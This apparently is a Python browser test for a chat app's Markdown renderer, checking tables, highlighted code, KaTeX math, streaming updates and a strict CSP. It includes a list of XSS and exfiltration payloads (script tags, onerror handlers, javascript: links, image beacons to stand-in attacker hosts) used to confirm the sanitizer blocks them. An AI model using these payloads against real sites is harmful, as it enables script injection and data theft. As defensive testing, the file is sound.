#!/usr/bin/env python3
"""Browser check of static/js/render.js with the vendored libraries.

Serves static/ with `python -m http.server` on 127.0.0.1, writes two temporary
pages under static/js/ (one without CSP, one with a strict CSP; both deleted
afterwards) and drives Debian's Chromium through Playwright (it never
downloads a browser):

* Markdown tables, highlighted code blocks with copy buttons, KaTeX math;
* XSS / exfiltration payloads: no script runs, no iframe, no hx-* attribute,
  no <img> for remote images, and no request to any host but 127.0.0.1;
* streaming: growing text with unclosed fences / $$ renders, unchanged text
  does not touch the DOM, htmx swap events enhance new content;
* strict CSP page: no violation, KaTeX layout styles still applied.

Usage: .venv/bin/python scripts/check_render.py [--screenshots DIR]
Exit code 0 when every check passes; screenshots (light/dark, wide/narrow) go to DIR.
"""

from __future__ import annotations

import argparse
import contextlib
import http.client
import shutil
import socket
import subprocess
import sys
import time
from pathlib import Path
from urllib.parse import urlsplit

ROOT = Path(__file__).resolve().parent.parent
STATIC = ROOT / "static"
PAGE = STATIC / "js" / "_tmp_check.html"
PAGE_CSP = STATIC / "js" / "_tmp_check_csp.html"
CHROMIUM_ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking"]

CSP = (
    "default-src 'self'; script-src 'self'; style-src 'self'; img-src 'self'; "
    "font-src 'self'; connect-src 'self'; frame-src 'none'; object-src 'none'; base-uri 'none'"
)

DEMO_MD = r"""Here is a **table**, some `inline code`, a [link](https://example.org/docs) and math.

| Model | Params | Notes |
|:------|-------:|-------|
| tiny  | 1.1B   | fast  |
| small | 7B     | $O(n^2)$ attention |

Euler: $e^{i\pi} + 1 = 0$, and inline \(a^2 + b^2 = c^2\). Prices stay text: $5 and $10.

$$\int_0^1 x\,dx = \frac{1}{2}$$

\[ \sum_{n=1}^{\infty} \frac{1}{n^2} = \frac{\pi^2}{6} \]

```python
def greet(name: str) -> str:
    # say hello
    return f"Hello, {name}!"
```

- [x] render Markdown
- [ ] load remote images ![tracker](https://attacker.example/pixel.png)

> Quoted text with `$not math$` in code.
"""

USER_MD = "Can you explain **Euler's identity** and show a Python example?"

EVIL = "https://evil.example"
PAYLOADS = [
    "<script>window.__x=1</script>",
    '<img src=x onerror="window.__x=2">',
    "[a](javascript:window.__x=3)",
    f'<iframe src="{EVIL}/"></iframe>',
    '<div hx-get="/x" hx-trigger="load">h</div>',
    "![](https://attacker.example/?q=secret)",
    '<div data-hx-get="/x" data-hx-trigger="load" ws-send>d</div>',
    f'<a href="{EVIL}/" onclick="window.__x=4" hx-post="/y">click</a>',
    f'<svg><image href="{EVIL}/a.png"></image></svg><math><mi>x</mi></math>',
    f'<table background="{EVIL}/bg.png"><tr><td>t</td></tr></table>',
    f'<span style="background:url({EVIL}/s.png)">styled</span>',
    f'<img srcset="{EVIL}/1.png 1x" src="{EVIL}/0.png">',
    '<img src="//evil.example/p.png"><img src="/\\evil.example/q.png">',
    '<img src="data:image/png;base64,AAAA">',
    f'<video poster="{EVIL}/v.png"></video><audio src="{EVIL}/a.mp3"></audio>',
    f'<object data="{EVIL}/o"></object><embed src="{EVIL}/e">',
    f'<form action="{EVIL}/"><input name="q"><button>go</button></form>',
    f'<link rel="stylesheet" href="{EVIL}/x.css"><style>body{{background:url({EVIL}/b)}}</style>',
    '<a href="jav&#x09;ascript:window.__x=5">tab</a>',
    '<a href="data:text/html,<script>alert(1)</script>">data</a>',
    f"$\\href{{javascript:window.__x=6}}{{x}}$ $\\includegraphics{{{EVIL}/k.png}}$",
    '<span class="katex" data-thalamus-ks="position:fixed;inset:0">fake</span>',
]


def host(src: str, extra: str = "") -> str:
    """A render.js host: raw text in a hidden textarea, output in .md-out."""
    return (
        f'<div class="msg-body" data-markdown>{extra}'
        f'<textarea hidden class="md-src">{src}</textarea><div class="md-out"></div></div>'
    )


def page_html(csp: bool) -> str:
    meta = f'<meta http-equiv="Content-Security-Policy" content="{CSP}">' if csp else ""
    hl = "/vendor/highlight/styles"
    return f"""<!doctype html>
<html lang="en"><head><meta charset="utf-8">{meta}
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>render.js check</title>
<link rel="stylesheet" href="/vendor/katex/katex.min.css">
<link rel="stylesheet" href="{hl}/github.min.css" media="(prefers-color-scheme: light)">
<link rel="stylesheet" href="{hl}/github-dark.min.css" media="(prefers-color-scheme: dark)">
<link rel="stylesheet" href="/css/thalamus.css">
<script src="/vendor/marked/marked.umd.js" defer></script>
<script src="/vendor/dompurify/purify.min.js" defer></script>
<script src="/vendor/katex/katex.min.js" defer></script>
<script src="/vendor/highlight/highlight.min.js" defer></script>
<script src="/js/render.js" defer></script>
</head><body>
<header class="topbar">
  <a class="brand" href="#">&#9673; Thalamus</a>
  <nav><a href="#" aria-current="page">Chat</a><a href="#">Memory</a><a href="#">Graph</a></nav>
  <div class="user-menu"><span class="username">alice</span>
    <form class="inline"><button class="btn btn-ghost btn-sm" type="button">Log out</button>
    </form></div>
</header>
<div class="app">
  <aside class="sidebar">
    <a class="btn btn-primary" href="#">+ New chat</a>
    <input type="search" class="conv-search" placeholder="Search conversations">
    <h2>Recent</h2>
    <ul class="conv-list">
      <li class="active"><a href="#" aria-current="page">Euler's identity explained</a>
        <div class="conv-actions">
          <button class="btn btn-ghost" type="button" title="Rename">&#9998;</button>
          <button class="btn btn-ghost" type="button" title="Delete">&#10005;</button></div></li>
      <li><a href="#">Trip planning for the Alps in early spring</a></li>
      <li><a href="#">Rust lifetimes</a></li>
    </ul>
  </aside>
  <main class="content">
    <div class="chat">
      <div class="demo-banner"><span class="badge">demo model</span>
        Replies come from the built-in demo model.</div>
      <div class="messages-list" id="messages">
        <div class="msg msg-user">{host(USER_MD)}</div>
        <div class="msg msg-assistant" id="demo">
          <div class="msg-meta">tiny-llama &middot; 12:04</div>{host("")}
          <details class="trace"><summary>What I used</summary>
            <ul><li>Memory: "likes Python"</li><li>Conversation: 4 earlier messages</li></ul>
          </details></div>
        <div class="msg msg-assistant failed">{host("I was about to")}
          <div class="msg-error">&#9888; The model server did not answer.
            <button class="btn btn-sm" type="button">Retry</button></div></div>
        <div class="msg msg-assistant cancelled">{host("Partial answer that was")}
          <div class="msg-note">Stopped by you.</div></div>
        <div class="msg msg-assistant streaming" id="stream">
          {host("Let me think about **this** and")}</div>
        <div class="msg msg-assistant"><div class="md-out" id="streamtest"></div></div>
        <div id="payloads"></div>
        <div id="local"></div>
      </div>
      <form class="composer"><label class="sr-only" for="c">Message</label>
        <textarea id="c" rows="1" placeholder="Message Thalamus..."></textarea>
        <button class="btn btn-danger" type="button" disabled>Stop</button>
        <button class="btn btn-primary" type="button">Send</button></form>
    </div>
  </main>
</div>
</body></html>
"""


JS_RENDER_HOSTS = """
([payloads, demo]) => {
  document.querySelector('#demo .md-src').textContent = demo;
  window.ThalamusRender.enhance(document.getElementById('demo'));
  window.__cspDemo = window.__csp.slice();
  const box = document.getElementById('payloads');
  for (const p of payloads) {
    const host = document.createElement('div');
    host.setAttribute('data-markdown', '');
    host.className = 'msg-body payload';
    const ta = document.createElement('textarea');
    ta.hidden = true; ta.className = 'md-src'; ta.textContent = p;
    host.appendChild(ta);
    box.appendChild(host);
  }
  const local = document.createElement('div');
  local.setAttribute('data-markdown', '');
  local.innerHTML = '<textarea hidden class="md-src">![local](/static-local.png)</textarea>';
  document.getElementById('local').appendChild(local);
  window.ThalamusRender.enhance(document.body);
}
"""

JS_STREAM = r"""
(full) => {
  const el = document.getElementById('streamtest');
  const R = window.ThalamusRender;
  const errors = [];
  const seen = {pre: false, pending: false};
  for (let i = 1; i <= full.length; i += 3) {
    try {
      R.renderInto(el, full.slice(0, i));
      if (el.querySelector('pre code')) seen.pre = true;
      if (el.querySelector('.math-pending, .katex-display')) seen.pending = true;
    } catch (e) { errors.push(String(e)); }
  }
  R.renderInto(el, full);
  let mutations = 0;
  const mo = new MutationObserver((m) => { mutations += m.length; });
  mo.observe(el, {subtree: true, childList: true, attributes: true, characterData: true});
  R.renderInto(el, full);
  R.renderInto(el, full);
  R.enhance(document.body);
  const records = mo.takeRecords().length;
  mo.disconnect();
  const partial = R.render('Start\n\n```js\nconst a = 1;');
  const partialMath = R.render('Look: $$\\frac{1}{');
  return {errors, seen, mutations: mutations + records,
          partialHasPre: /<pre>[\s\S]*<code class="hljs/.test(partial),
          partialMath: partialMath};
}
"""

JS_SWAP = """
() => {
  const d = document.createElement('div');
  d.innerHTML = '<div data-markdown><textarea hidden class="md-src">**swapped** $x$</textarea>'
    + '</div>';
  document.getElementById('payloads').appendChild(d);
  d.dispatchEvent(new CustomEvent('htmx:afterSwap', {bubbles: true, detail: {target: d}}));
  return !!d.querySelector('.md-out strong') && !!d.querySelector('.md-out .katex');
}
"""

JS_CSP_LISTENER = (
    "window.__csp=[];document.addEventListener('securitypolicyviolation',"
    "e=>window.__csp.push(e.violatedDirective+' '+e.blockedURI));"
)

JS_FIXED = "ss => ss.filter(s => getComputedStyle(s).position === 'fixed').length"


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


@contextlib.contextmanager
def static_server():
    port = free_port()
    cmd = [sys.executable, "-m", "http.server", str(port), "--bind", "127.0.0.1"]
    proc = subprocess.Popen(
        [*cmd, "--directory", str(STATIC)],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    try:
        deadline = time.time() + 10
        while True:
            try:
                conn = http.client.HTTPConnection("127.0.0.1", port, timeout=1)
                conn.request("HEAD", "/js/render.js")
                conn.getresponse()
                conn.close()
                break
            except OSError:
                if time.time() > deadline:
                    raise RuntimeError("http.server did not start")
                time.sleep(0.1)
        yield f"http://127.0.0.1:{port}"
    finally:
        proc.terminate()
        try:
            proc.wait(timeout=5)
        except subprocess.TimeoutExpired:
            proc.kill()


def chromium_path() -> str:
    path = shutil.which("chromium")
    if not path:
        sys.exit("chromium not found: apt-get update && apt-get install -y chromium")
    return path


class Checker:
    def __init__(self) -> None:
        self.failures: list[str] = []
        self.passed = 0

    def check(self, cond: bool, what: str) -> None:
        if cond:
            self.passed += 1
            print(f"  ok   {what}")
        else:
            self.failures.append(what)
            print(f"  FAIL {what}")


def check_rendering(page, ck: Checker) -> None:
    demo = "#demo .md-out"

    def count(sel: str) -> int:
        return page.locator(sel).count()

    ck.check(count(f"{demo} table th") == 3, "table renders with 3 header cells")
    ck.check(count(f"{demo} table td") == 6, "table has 6 cells")
    code_cls = page.locator(f"{demo} pre code").first.get_attribute("class") or ""
    ck.check("hljs" in code_cls and "language-python" in code_cls, f"code classes: {code_cls}")
    ck.check(count(f"{demo} pre code .hljs-keyword") > 0, "python keywords highlighted")
    ck.check(count(f"{demo} pre > button.copy-btn") == 1, "copy button on the pre")
    n_katex = count(f"{demo} .katex")
    ck.check(n_katex >= 5, f"math rendered ({n_katex} .katex elements)")
    ck.check(count(f"{demo} .katex-display") == 2, "two display formulas ($$ and \\[)")
    ann = page.eval_on_selector_all(f"{demo} annotation", "a => a.map(x => x.textContent)")
    for tex in [
        "e^{i\\pi} + 1 = 0",
        "a^2 + b^2 = c^2",
        "\\int_0^1 x\\,dx = \\frac{1}{2}",
        "O(n^2)",
    ]:
        ck.check(tex in ann, f"formula {tex!r} rendered by KaTeX")
    ck.check("$5 and $10" in page.inner_text(demo), "currency dollars stay text")
    ck.check(
        page.locator(f"{demo} blockquote code").inner_text() == "$not math$",
        "no math inside code spans",
    )
    ck.check(count(f"{demo} .task-box") == 2, "task list boxes")
    link = page.locator(f"{demo} a[href='https://example.org/docs']")
    ck.check(
        link.get_attribute("target") == "_blank"
        and link.get_attribute("rel") == "noopener noreferrer nofollow",
        "links open in a new tab with rel=noopener noreferrer nofollow",
    )
    strut = page.eval_on_selector(f"{demo} .katex :is(.katex-strut, .strut)", "e => e.style.height")
    ck.check(bool(strut), f"KaTeX inline styles applied (strut height {strut!r})")
    h = page.eval_on_selector(f"{demo} .katex-display", "e => e.getBoundingClientRect().height")
    ck.check(h > 30, f"display math laid out ({h:.0f}px high)")

    page.locator(f"{demo} pre").first.hover()
    page.locator(f"{demo} .copy-btn").first.click()
    page.wait_for_timeout(150)
    label = page.locator(f"{demo} .copy-btn").first.inner_text()
    ck.check(label in ("Copied", "Copy failed"), f"copy button gives feedback ({label})")


def check_payloads(page, ck: Checker) -> None:
    pl = "#payloads"

    def count(sel: str) -> int:
        return page.locator(sel).count()

    ck.check(page.evaluate("typeof window.__x") == "undefined", "no payload script ran")
    ck.check(
        count(
            f"iframe, object, embed, video, audio, link[href*=evil], {pl} :is(form, input, style)"
        )
        == 0,
        "no iframe/object/embed/form/input/media/style elements",
    )
    ck.check(
        count("[hx-get], [hx-post], [hx-trigger], [data-hx-get], [data-hx-trigger], [ws-send]")
        == 0,
        "no hx-*/data-hx-*/ws-* attributes",
    )
    ck.check(count(f"{pl} img") == 0, "no <img> from payloads")
    ck.check(count(f"{pl} :is([onerror], [onclick]), [style*=evil]") == 0, "no handlers/styles")
    ck.check(count(f"{pl} a:is([href^='javascript'], [href^='data'])") == 0, "no js:/data: links")
    ck.check(
        count(f"{pl} :is([background], [srcset], svg), {pl} math:not(.katex math)") == 0,
        "no background/srcset attributes, no user svg/math",
    )
    chips = page.locator(f"{pl} .blocked-image")
    ck.check(chips.count() >= 1, f"remote Markdown images replaced by chips ({chips.count()})")
    shown = page.inner_text(pl)
    ck.check(
        all(tag in shown for tag in ("<script>", "<iframe", "<img src=x onerror", "<form")),
        "raw HTML payloads are shown as text",
    )
    ck.check(
        any("attacker.example/?q=secret" in t for t in chips.all_inner_texts()),
        "chip shows the blocked URL as text",
    )
    ck.check(
        all(c.get_attribute("title") == "External image blocked" for c in chips.all()),
        "chip title",
    )
    fixed = page.eval_on_selector_all(f"{pl} span", JS_FIXED)
    ck.check(fixed == 0, "no attacker-controlled fixed positioning")
    ck.check(count("#local img[src='/static-local.png']") == 1, "same-origin image is kept")


def check_streaming(page, ck: Checker) -> None:
    res = page.evaluate(JS_STREAM, DEMO_MD)
    ck.check(not res["errors"], f"streaming renders without errors {res['errors'][:2]}")
    ck.check(
        res["seen"]["pre"] and res["seen"]["pending"], "partial fences/math render while streaming"
    )
    ck.check(res["mutations"] == 0, f"unchanged text touches nothing ({res['mutations']})")
    ck.check(res["partialHasPre"], "unclosed code fence renders as highlighted code")
    ck.check(
        "math-pending" in res["partialMath"] or "katex" in res["partialMath"],
        "unclosed $$ renders sensibly",
    )
    ck.check(page.evaluate(JS_SWAP), "htmx:afterSwap enhances new content (creates .md-out)")


def screenshots(page, shots: Path, name: str) -> None:
    page.evaluate("() => document.getElementById('messages').scrollTop = 0")
    page.screenshot(path=str(shots / f"{name}.png"))
    page.set_viewport_size({"width": 420, "height": 860})
    page.screenshot(path=str(shots / f"{name}-narrow.png"))
    page.set_viewport_size({"width": 1280, "height": 900})
    page.evaluate("() => document.getElementById('stream').scrollIntoView()")
    page.screenshot(path=str(shots / f"{name}-payloads.png"))


def run_checks(base: str, shots: Path | None) -> Checker:
    from playwright.sync_api import sync_playwright

    ck = Checker()
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=chromium_path(), args=CHROMIUM_ARGS)
        try:
            for csp in (False, True):
                for scheme in ("light", "dark"):
                    name = f"render-{'csp-' if csp else ''}{scheme}"
                    print(f"[{name}]")
                    ctx = browser.new_context(
                        color_scheme=scheme, viewport={"width": 1280, "height": 900}
                    )
                    page = ctx.new_page()
                    requests: list[str] = []
                    errors: list[str] = []
                    page.on("request", lambda r, seen=requests: seen.append(r.url))
                    page.on("pageerror", lambda e, seen=errors: seen.append(str(e)))
                    page.add_init_script(JS_CSP_LISTENER)
                    page.goto(f"{base}/js/{(PAGE_CSP if csp else PAGE).name}", wait_until="load")
                    page.wait_for_function("window.ThalamusRender && window.marked")
                    page.evaluate(JS_RENDER_HOSTS, [PAYLOADS, DEMO_MD])
                    page.wait_for_timeout(600)

                    check_rendering(page, ck)
                    check_payloads(page, ck)
                    check_streaming(page, ck)

                    page.wait_for_timeout(300)
                    foreign = sorted({u for u in requests if urlsplit(u).hostname != "127.0.0.1"})
                    ck.check(not foreign, f"no request to another host {foreign}")
                    ck.check(not errors, f"no page errors {errors[:2]}")
                    if csp:
                        demo_v = page.evaluate("window.__cspDemo")
                        ck.check(not demo_v, f"no CSP violation rendering the demo {demo_v[:3]}")
                        # Chromium reports the payloads' own inline handlers/styles when DOMPurify
                        # parses them in its inert document; none of them may be a fetch.
                        fetches = [v for v in page.evaluate("window.__csp") if " inline" not in v]
                        ck.check(not fetches, f"no CSP-blocked fetch attempts {fetches[:3]}")
                    if shots:
                        screenshots(page, shots, name)
                    ctx.close()
        finally:
            browser.close()
    return ck


def main() -> int:
    ap = argparse.ArgumentParser(
        description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter
    )
    ap.add_argument("--screenshots", default="/tmp", help="directory for screenshots, '' to skip")
    args = ap.parse_args()
    shots = Path(args.screenshots) if args.screenshots else None
    if shots:
        shots.mkdir(parents=True, exist_ok=True)
    PAGE.write_text(page_html(csp=False), encoding="utf-8")
    PAGE_CSP.write_text(page_html(csp=True), encoding="utf-8")
    try:
        with static_server() as base:
            ck = run_checks(base, shots)
    finally:
        PAGE.unlink(missing_ok=True)
        PAGE_CSP.unlink(missing_ok=True)
    print(f"{ck.passed} passed, {len(ck.failures)} failed")
    if shots:
        print(f"screenshots: {shots}/render-*.png")
    return 1 if ck.failures else 0


if __name__ == "__main__":
    sys.exit(main())
